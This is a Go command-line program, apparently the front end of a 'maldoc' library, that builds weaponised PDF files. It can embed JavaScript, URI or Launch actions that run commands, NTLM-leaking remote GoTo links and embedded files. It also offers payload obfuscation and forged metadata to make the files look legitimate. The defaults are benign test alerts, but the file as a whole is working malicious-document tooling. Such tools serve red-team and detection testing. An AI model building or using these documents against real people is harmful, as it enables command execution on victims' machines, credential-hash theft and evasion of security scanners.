package main

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/maldoc/maldoc"
	"github.com/urfave/cli/v3"
)

const dateLayout = "2006-01-02 15:04:05"

// payloadKind is the closed set of attachment types the CLI can embed.
type payloadKind string

const (
	kindJS           payloadKind = "js"
	kindJSFile       payloadKind = "jsfile"
	kindURI          payloadKind = "uri"
	kindLaunch       payloadKind = "launch"
	kindNTLM         payloadKind = "ntlm"
	kindEmbeddedFile payloadKind = "embeddedfile"
)

func parseKind(s string) (payloadKind, error) {
	switch k := payloadKind(strings.ToLower(s)); k {
	case kindJS, kindJSFile, kindURI, kindLaunch, kindNTLM, kindEmbeddedFile:
		return k, nil
	case "url":
		return kindURI, nil
	case "file":
		return kindEmbeddedFile, nil
	default:
		return "", fmt.Errorf("unknown payload type %q", s)
	}
}

func buildFlags() []cli.Flag {
	return []cli.Flag{
		&cli.StringFlag{
			Name:    "output",
			Aliases: []string{"f"},
			Value:   "test.pdf",
			Usage:   "Output filename for the PDF file",
		},
		&cli.StringFlag{
			Name:    "type",
			Aliases: []string{"t"},
			Value:   "js",
			Usage:   "Payload type: js, jsfile, uri, launch, ntlm or embeddedfile",
		},
		&cli.StringFlag{
			Name:    "payload",
			Aliases: []string{"p"},
			Value:   "app.alert('This document is a test artifact.');",
			Usage:   "Payload content (js: script text, jsfile/embeddedfile: path, uri: URL, launch: command, ntlm: remote filename)",
		},
		&cli.StringFlag{
			Name:    "title",
			Aliases: []string{"T"},
			Value:   "Test document",
			Usage:   "Title written on top of the page",
		},
		&cli.StringFlag{
			Name:    "body",
			Aliases: []string{"b"},
			Value:   "This document is a generated test artifact.",
			Usage:   "Body text written on the page",
		},
		&cli.BoolFlag{
			Name:    "obfuscate",
			Aliases: []string{"o"},
			Usage:   "Obfuscate strings, names and the JavaScript payload",
		},
		&cli.StringFlag{
			Name:  "seed",
			Usage: "Obfuscation seed for reproducible output (random when empty)",
		},
		&cli.StringFlag{
			Name:  "pdf-version",
			Value: "1.7",
			Usage: "PDF version token for the file header",
		},
		&cli.StringFlag{
			Name:    "author",
			Aliases: []string{"a"},
			Usage:   "Author in PDF metadata (omitted when empty)",
		},
		&cli.StringFlag{
			Name:    "date",
			Aliases: []string{"d"},
			Usage:   "Creation date in PDF metadata, format 'YYYY-mm-dd HH:MM:SS' (omitted when empty)",
		},
		&cli.StringFlag{
			Name:    "doc-title",
			Aliases: []string{"i"},
			Usage:   "Title in PDF metadata (omitted when empty)",
		},
		&cli.StringFlag{
			Name:    "producer",
			Aliases: []string{"P"},
			Usage:   "Producer in PDF metadata (omitted when empty)",
		},
		&cli.StringFlag{
			Name:  "bookmark",
			Usage: "Add a bookmark with the given title (omitted when empty)",
		},
		&cli.BoolFlag{
			Name:  "objstm",
			Usage: "Pack objects into an object stream with a cross-reference stream",
		},
	}
}

func runBuild(ctx context.Context, cmd *cli.Command) error {
	logger := slog.New(slog.NewTextHandler(os.Stderr, nil))

	kind, err := parseKind(cmd.String("type"))
	if err != nil {
		return err
	}

	var obf *maldoc.Obfuscator
	if cmd.Bool("obfuscate") {
		var opts []maldoc.ObfuscatorOption
		if s := cmd.String("seed"); s != "" {
			seed, err := strconv.ParseInt(s, 10, 64)
			if err != nil {
				return fmt.Errorf("invalid --seed: %w", err)
			}
			opts = append(opts, maldoc.WithSeed(seed))
		}
		obf = maldoc.NewObfuscator(opts...)
		logger.Info("obfuscation enabled", "seed", obf.Seed())
	}

	catalogOpts := []maldoc.CatalogOption{
		maldoc.WithVersion(cmd.String("pdf-version")),
	}
	if v := cmd.String("doc-title"); v != "" {
		catalogOpts = append(catalogOpts, maldoc.WithTitle(v))
	}
	if v := cmd.String("author"); v != "" {
		catalogOpts = append(catalogOpts, maldoc.WithAuthor(v))
	}
	if v := cmd.String("producer"); v != "" {
		catalogOpts = append(catalogOpts, maldoc.WithProducer(v))
	}
	if v := cmd.String("date"); v != "" {
		ts, err := time.Parse(dateLayout, v)
		if err != nil {
			return fmt.Errorf("invalid --date: %w", err)
		}
		catalogOpts = append(catalogOpts, maldoc.WithCreationDate(ts))
	}

	fileOpts := []maldoc.Option{maldoc.WithLogger(logger)}
	if obf != nil {
		fileOpts = append(fileOpts, maldoc.WithObfuscator(obf))
	}

	doc, err := maldoc.NewDocument(maldoc.New(fileOpts...), catalogOpts...)
	if err != nil {
		return err
	}

	if title := cmd.String("title"); title != "" {
		pos := maldoc.Position{X: 612/2 - float64(len(title)/2*16), Y: 720}
		if pos.X < 0 {
			pos.X = 0
		}
		if err := doc.Page.AddText(title, pos, maldoc.WithTextSize(16), maldoc.WithBox()); err != nil {
			return err
		}
	}
	if body := cmd.String("body"); body != "" {
		if err := doc.Page.AddText(body, maldoc.Position{X: 100, Y: 600}); err != nil {
			return err
		}
	}
	if bm := cmd.String("bookmark"); bm != "" {
		doc.Outlines.AddBookmark(bm)
	}

	if err := attachPayload(doc, kind, cmd.String("payload"), obf); err != nil {
		return err
	}

	if cmd.Bool("objstm") {
		if err := doc.File.PackObjects(); err != nil {
			return err
		}
	}

	output := cmd.String("output")
	if err := doc.File.WriteFile(output); err != nil {
		return err
	}

	logger.Info("pdf generated", "output", output, "type", string(kind))
	return nil
}

func attachPayload(doc *maldoc.Document, kind payloadKind, payload string, obf *maldoc.Obfuscator) error {
	switch kind {
	case kindJS:
		if obf != nil {
			payload = obf.JavaScript(payload)
		}
		_, err := doc.Catalog.AttachJavaScriptSource(payload)
		return err

	case kindJSFile:
		if obf != nil {
			data, err := os.ReadFile(payload)
			if err != nil {
				return fmt.Errorf("failed to read javascript file: %w", err)
			}
			_, err = doc.Catalog.AttachJavaScript(strings.NewReader(obf.JavaScript(string(data))))
			return err
		}
		f, err := os.Open(payload)
		if err != nil {
			return fmt.Errorf("failed to open javascript file: %w", err)
		}
		defer f.Close()
		_, err = doc.Catalog.AttachJavaScript(f)
		return err

	case kindURI:
		_, err := doc.Catalog.AttachURI(payload)
		return err

	case kindLaunch:
		_, err := doc.Catalog.AttachLaunch(payload)
		return err

	case kindNTLM:
		doc.Page.AttachRemoteGoTo(payload)
		return nil

	case kindEmbeddedFile:
		f, err := os.Open(payload)
		if err != nil {
			return fmt.Errorf("failed to open embedded file: %w", err)
		}
		defer f.Close()
		_, err = doc.Catalog.AttachEmbeddedFile(f, filepath.Base(payload))
		return err

	default:
		return fmt.Errorf("unknown payload type %q", kind)
	}
}
